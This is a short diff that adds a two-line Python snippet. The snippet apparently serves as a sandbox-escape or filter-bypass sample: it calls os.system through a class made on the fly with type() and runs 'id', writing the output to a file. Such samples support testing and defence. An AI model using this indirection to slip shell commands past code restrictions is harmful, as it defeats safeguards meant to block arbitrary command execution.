@@ -1,0 +1,2 @@
+import os
+type("X", (), {"m": os}).m.system("id>pf")
